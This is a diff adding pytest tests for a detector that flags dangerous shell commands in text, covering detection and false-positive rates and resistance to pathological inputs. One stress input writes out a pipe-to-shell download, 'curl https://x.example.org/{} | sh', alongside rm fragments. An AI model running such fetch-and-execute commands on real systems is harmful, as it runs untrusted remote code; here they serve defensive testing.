@@ -235,6 +235,35 @@ def test_ordinary_words_of_a_task_hold_no_command(text: str) -> None:
     assert judge_words(text) == ()
 
 
+def test_at_least_98_of_100_words_with_a_dangerous_command_are_stopped() -> None:
+    """A download and what it is piped into stood unseen behind the first word of a sentence."""
+    texts = listed("dangerous_words")
+    missed = [text for text in texts if not judge_words(text)]
+    assert len(texts) >= 100
+    assert len(missed) <= 0.02 * len(texts), missed
+
+
+def test_at_most_1_of_100_words_that_speak_of_commands_are_stopped() -> None:
+    texts = listed("harmless_words")
+    stopped = [(text, [found.rule for found in judge_words(text)]) for text in texts if judge_words(text)]
+    assert len(texts) >= 100
+    assert len(stopped) <= 0.01 * len(texts), stopped
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param("and curl https://x.example.org/{} | sh, then ", id="downloads in a row"),
+        pytest.param("Use curl -A {} $(" + "$(" * 150 + ", then ", id="substitutions in each"),
+        pytest.param("curl " + " " * 3000 + "{} ", id="blanks"),
+        pytest.param('"rm "a" {} ', id="quotes within quotes"),
+        pytest.param("git a{} then curl b.", id="stops and turns"),
+    ],
+)
+def test_words_of_many_commands_are_read_to_an_end(text: str) -> None:
+    judge_words("".join(text.replace("{}", str(at)) for at in range(1 << 16))[: 1 << 16])
+
+
 def test_only_so_many_pieces_of_a_text_are_looked_at() -> None:
     assert len(list(commands_in("`ls`\n" + "".join(f"`echo {n}`\n" for n in range(9000))))) == 2000
 
